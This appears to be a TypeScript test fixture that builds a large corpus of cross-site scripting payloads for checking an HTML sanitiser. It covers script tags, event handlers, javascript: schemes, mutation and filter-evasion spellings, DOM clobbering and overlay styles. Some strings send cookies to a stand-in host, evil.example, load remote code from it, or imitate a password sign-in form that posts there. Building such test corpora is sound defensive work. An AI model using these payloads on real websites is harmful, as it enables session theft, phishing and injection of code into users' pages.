/**
 * Hostile HTML for tests: markup that runs, loads, styles, covers the page or imitates a control, in spellings that get
 * past filters. Whatever would run calls `alert`; whatever would load requests `evil.example`. Written for this
 * product; the kinds follow the OWASP cheat sheets on filter evasion and published bypasses of sanitisers.
 */
// biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes
const CODE = ['alert(1)', 'fetch(`//evil.example/${document.cookie}`)', "location='//evil.example'"]
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerrawupdate',
  'onbeforetoggle',
  'onscrollend',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'filesystem:',
  'file:///',
  'view-source:',
  'livescript:',
  '//evil.example/',
  '\\\\evil.example\\',
  'https:evil@',
  'http://user:pw@evil.example/',
  'ws://evil.example/',
  'intent://',
  'x:',
]

/** One or a few of each kind, for tests that examine each one separately. */
export const HOSTILE_MARKUP_KINDS: readonly string[] = [
  ...CODE.flatMap(code => [
    `<script>${code}</script>`,
    `<SCRIPT SRC=//evil.example>${code}</SCRIPT>`,
    `<script\x0c>${code}</script>`,
    `<svg><script>${code}</script></svg>`,
    `<math><script>${code}</script></math>`,
    `<script>/*</script><b>*/${code}</b></script>`,
  ]),
  ...HANDLERS.flatMap(handler => [
    `<img src=x ${handler}=alert(1)>`,
    `<b ${handler}="alert(1)">x</b>`,
    `<p/${handler}=alert(1)>x`,
    `<svg ${handler}=alert(1)>`,
    `<a href=https://ok.example ${handler}=alert(1)>x</a>`,
    `<details open ${handler}=alert(1)>x</details>`,
  ]),
  ...SCHEMES.flatMap(scheme => [
    `<a href="${scheme}alert(1)">x</a>`,
    `<a href='${scheme}alert(1)'>x</a>`,
    `<form action="${scheme}alert(1)"><button>x</button></form>`,
    `<iframe src="${scheme}alert(1)"></iframe>`,
  ]),
  // Imitations of a sign-in form, and overlays.
  '<form action=https://evil.example><input type=password name=p><button>サインイン</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<select><option>x</select>',
  '<textarea>x</textarea>',
  '<label for=x>x</label>',
  '<dialog open>x</dialog>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
  '<p style=color:red class=modal id=root>x</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<font color=red>x</font>',
  '<center>x</center>',
  '<marquee>x</marquee>',
  '<b title="x" data-x=1 aria-label=x role=button tabindex=0 contenteditable draggable=true is=x-y slot=a part=b nonce=c>x</b>',
  '<a href=https://ok.example target=_self rel=opener download ping=//evil.example>x</a>',
  '<a name=x id=document>x</a>',
  // Markup that loads something.
  '<img src=https://evil.example/pixel.png>',
  '<img srcset=//evil.example/1>',
  '<picture><source srcset=//evil.example></picture>',
  '<video src=//evil.example poster=//evil.example autoplay></video>',
  '<audio src=//evil.example autoplay></audio>',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<applet code=x></applet>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src=//evil.example></frameset>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<track src=//evil.example>',
  '<portal src=//evil.example></portal>',
  '<bgsound src=//evil.example>',
  '<body background=//evil.example onload=alert(1)>',
  '<table background=//evil.example><tr><td background=//evil.example>x</table>',
  '<isindex action=javascript:alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<menuitem onclick=alert(1)>',
  // Mutation: a parser reads something else than was written.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><foreignObject><p><script>alert(1)</script></p></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><set attributeName=onload to=alert(1)>',
  '<table><style><img src=x onerror=alert(1)></table>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<select><style><img src=x onerror=alert(1)></style></select>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<a><table><a href=javascript:alert(1)>x</a></table></a>',
  '<p><svg><p><style><!--</style>--><img src=x onerror=alert(1)>',
  '<b><p></b><script>alert(1)</script></p>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href="https://ok.example/\'onclick=alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  // Malformed on purpose.
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!doctype html><script>alert(1)</script>',
  '<html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>',
  '</p></div></body></html><script>alert(1)</script>',
  '<a/href="javascript:alert(1)">x',
  '<a\u0000href=javascript:alert(1)>x',
  '<a href="jav\u0000ascript:alert(1)">x</a>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '＜script＞alert(1)＜/script＞',
  '<ｓcript>alert(1)</ｓcript>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onconnect=alert(1)>x</custom-element>',
  '<slot onslotchange=alert(1)></slot>',
  '{{constructor.constructor("alert(1)")()}}',
  `${'$'}{alert(1)}`,
  '<p>\u202eevil\u2066</p>',
  '\ud800<script>alert(1)</script>',
  `${'<div>'.repeat(600)}<script>alert(1)</script>`,
  `${'<b>'.repeat(300)}<img src=x onerror=alert(1)>`,
]

const EVENTS = [
  ...['abort', 'afterprint', 'animationcancel', 'animationend', 'animationiteration', 'auxclick', 'beforecopy'],
  ...['beforecut', 'beforeinput', 'beforematch', 'beforepaste', 'beforeprint', 'beforeunload', 'begin', 'blur'],
  ...['canplay', 'canplaythrough', 'change', 'close', 'contentvisibilityautostatechange', 'contextmenu', 'copy'],
  ...['cuechange', 'cut', 'dblclick', 'drag', 'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop'],
  ...['durationchange', 'end', 'ended', 'finish', 'focusin', 'focusout', 'formdata', 'fullscreenchange'],
  ...['gotpointercapture', 'hashchange', 'input', 'invalid', 'keydown', 'keypress', 'keyup', 'loadeddata'],
  ...['loadedmetadata', 'loadstart', 'lostpointercapture', 'message', 'mousedown', 'mouseenter', 'mouseleave'],
  ...['mousemove', 'mouseout', 'mouseup', 'mousewheel', 'pagehide', 'pagereveal', 'pageshow', 'pageswap', 'paste'],
  ...['pause', 'play', 'playing', 'pointercancel', 'pointerdown', 'pointerenter', 'pointerleave', 'pointermove'],
  ...['pointerout', 'pointerover', 'pointerup', 'popstate', 'progress', 'ratechange', 'repeat', 'reset', 'resize'],
  ...['scroll', 'search', 'securitypolicyviolation', 'seeked', 'seeking', 'select', 'selectionchange', 'selectstart'],
  ...['show', 'slotchange', 'start', 'submit', 'suspend', 'timeupdate', 'touchstart', 'transitioncancel'],
  ...['transitionend', 'transitionrun', 'transitionstart', 'unhandledrejection', 'unload', 'volumechange', 'wheel'],
]
const ELEMENTS = [
  ...['a', 'abbr', 'address', 'article', 'aside', 'audio', 'b', 'base', 'bdo', 'blockquote', 'body', 'button'],
  ...['canvas', 'caption', 'center', 'code', 'col', 'datalist', 'dd', 'details', 'dialog', 'div', 'dl', 'embed'],
  ...['fieldset', 'figure', 'font', 'footer', 'form', 'frame', 'frameset', 'h1', 'h2', 'head', 'hr', 'html', 'i'],
  ...['iframe', 'image', 'img', 'input', 'ins', 'isindex', 'label', 'legend', 'li', 'link', 'main', 'map', 'marquee'],
  ...['math', 'menu', 'meta', 'meter', 'nav', 'noscript', 'object', 'ol', 'optgroup', 'option', 'output', 'p'],
  ...['picture', 'pre', 'progress', 'search', 'section', 'select', 'source', 'span', 'style', 'summary', 'svg'],
  ...['table', 'tbody', 'td', 'template', 'textarea', 'th', 'title', 'tr', 'track', 'ul', 'video', 'x-custom', 'xmp'],
]
/** Elements whose handler runs without any action of the user. */
const SELF_STARTING = [
  '<img src=x onerror=CODE>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=CODE>',
  '<svg onload=CODE>',
  '<svg><image href=x onerror=CODE></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<details open ontoggle=CODE>x</details>',
  '<input autofocus onfocus=CODE>',
  '<a tabindex=0 autofocus onfocus=CODE>x</a>',
  '<video><source onerror=CODE></video>',
  '<video src=x onerror=CODE></video>',
  '<audio src=x onerror=CODE></audio>',
  '<object data=x onerror=CODE></object>',
  '<embed src=x onload=CODE>',
  '<iframe onload=CODE></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.CODE>"></iframe>',
  '<body onload=CODE>',
  '<style onload=CODE></style>',
  '<link rel=stylesheet href=x onerror=CODE>',
  '<script src=x onerror=CODE></script>',
  '<script>CODE</script>',
  '<marquee onstart=CODE>x</marquee>',
  '<iframe src="javascript:parent.CODE"></iframe>',
  '<object data="javascript:CODE"></object>',
  '<embed src="javascript:CODE">',
]
/** The same call in spellings that a word filter does not find. */
const CALLS = [
  ...[
    'alert(1)',
    'alert`1`',
    '(alert)(1)',
    "window['al'+'ert'](1)",
    'self[`alert`](1)',
    'top.alert(1)',
    'eval(`al`+`ert(1)`)',
  ],
  ...[
    '[1].map(alert)',
    'setTimeout(`alert(1)`)',
    'Function(`alert(1)`)()',
    'throw\u0020onerror=alert,1',
    'new\u0020Image().src=`//evil.example`',
  ],
  ...[
    '\\u0061lert(1)',
    '&#97;lert(1)',
    '&#x61;lert(1)',
    'alert&lpar;1&rpar;',
    'alert&#40;1&#41;',
    'import(`//evil.example`)',
  ],
]
/** Spellings around the same tag that parsers read differently from filters. */
const WRITINGS: readonly ((tag: string) => string)[] = [
  tag => tag,
  tag => tag.toUpperCase().replaceAll('ALERT', 'alert'),
  tag => tag.replace(' ', '/'),
  tag => tag.replace(' ', '\f'),
  tag => tag.replace(' ', '\n'),
  tag => tag.replace(' ', '\t\r\n/'),
  tag => tag.replace('>', ' //>'),
  tag => tag.replace('>', '"\'>'),
  tag => tag.slice(0, -1),
  tag => `<${tag}`,
  tag => `"><${tag.slice(1)}`,
  tag => `'-->${tag}`,
  tag => `</script>${tag}`,
  tag => `</textarea></title></style>${tag}`,
  tag => `<!--${tag}-->${tag}`,
  tag => `<p title="${tag.replaceAll('"', '&quot;')}">${tag}</p>`,
]
const BLANKS = [
  ...[0x00, 0x01, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0x85, 0xa0, 0xad, 0x1680, 0x180e, 0x2000],
  ...[0x2007, 0x200b, 0x200d, 0x2028, 0x2029, 0x202f, 0x205f, 0x2060, 0x3000, 0xfeff, 0xfffd],
]
/** Names that shadow properties of a document or form (DOM clobbering). */
const CLOBBERED = [
  ...['attributes', 'body', 'childNodes', 'children', 'cookie', 'createElement', 'defaultView', 'documentElement'],
  ...['firstChild', 'getElementById', 'innerHTML', 'lastChild', 'location', 'nodeName', 'nodeType', 'parentNode'],
  ...['querySelector', 'removeAttribute', 'removeChild', 'setAttribute', 'textContent', '__proto__', 'constructor'],
]
/** Contexts that change the meaning of text, so that a second parser reads it differently. */
const CONTEXTS = [
  ...['math', 'svg', 'table', 'select', 'template', 'noscript', 'style', 'title', 'textarea', 'xmp', 'iframe', 'form'],
  ...['noembed', 'noframes', 'plaintext', 'listing', 'option', 'button', 'a', 'mtext', 'desc', 'foreignObject'],
]
const IMAGE = '<img src=x onerror=alert(1)>'
/** Styles that cover, imitate or track; none of them may survive. */
const STYLES = [
  ...['position:fixed;inset:0;z-index:9999', 'background:url(//evil.example/x)', 'width:expression(alert(1))'],
  ...['-moz-binding:url(//evil.example)', 'behavior:url(#x)', 'animation-name:x', 'list-style:url(//evil.example)'],
  ...['color:red;display:none', 'content:url(//evil.example)', 'filter:url(//evil.example#x)', 'font-size:0'],
]

/** More than 1,900 different strings. */
export function hostileMarkup(): readonly string[] {
  const all = [
    ...HOSTILE_MARKUP_KINDS,
    ...SELF_STARTING.flatMap(tag => WRITINGS.map(write => write(tag.replace('CODE', 'alert(1)')))),
    ...CALLS.flatMap(call => SELF_STARTING.slice(0, 6).map(tag => tag.replace('CODE', `"${call}"`))),
    ...EVENTS.flatMap(name => [
      `<b on${name}="alert(1)">x</b>`,
      `<img src=x on${name}=alert(1)>`,
      `<svg on${name}=alert(1)>`,
    ]),
    ...ELEMENTS.flatMap(name => [
      `<${name} onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</${name}>`,
      `<${name} style="position:fixed;inset:0">x</${name}>`,
      `<${name} src=//evil.example href=javascript:alert(1) action=javascript:alert(1) data=//evil.example>x</${name}>`,
    ]),
    ...BLANKS.flatMap(code => {
      const blank = String.fromCodePoint(code)
      return [
        `<a href="${blank}javascript:alert(1)">x</a>`,
        `<a href="java${blank}script:alert(1)">x</a>`,
        `<a href="javascript${blank}:alert(1)">x</a>`,
        `<a href="&#${code};javascript:alert(1)">x</a>`,
        `<img${blank}src=x${blank}onerror=alert(1)>`,
        `<img src=x on${blank}error=alert(1)>`,
      ]
    }),
    ...CLOBBERED.flatMap(name => [
      `<form onmouseover=alert(1)><input name=${name}><input name=${name}></form>`,
      `<img src=x name=${name}><a id=${name} href=https://ok.example>x</a>`,
      `<a id=${name}><a id=${name} name=x href=javascript:alert(1)>x</a>`,
    ]),
    ...CONTEXTS.flatMap(outer => [
      `<${outer}>${IMAGE}</${outer}>`,
      `<${outer}><p title="</${outer}>${IMAGE}">`,
      `<${outer}><!--</${outer}>${IMAGE}-->`,
      `<${outer}><style><a title="</style>${IMAGE}"></${outer}>`,
      `&lt;${outer}&gt;<${outer}>&lt;img src=x onerror=alert(1)&gt;</${outer}>`,
      ...CONTEXTS.slice(0, 12).map(inner => `<${outer}><${inner}></${outer}>${IMAGE}</${inner}>`),
    ]),
    ...STYLES.flatMap(style => [
      `<p style="${style}">x</p>`,
      `<style>p{${style}}</style><p>x</p>`,
      `<div class=modal style='${style}'><form action=//evil.example><input type=password></form></div>`,
      `<svg><style>*{${style}}</style></svg>`,
    ]),
    ...[1, 3, 12, 80, 513].map(deep => `${'<b>'.repeat(deep)}${'<div>'.repeat(deep)}${IMAGE}`),
  ]
  return [...new Set(all)]
}
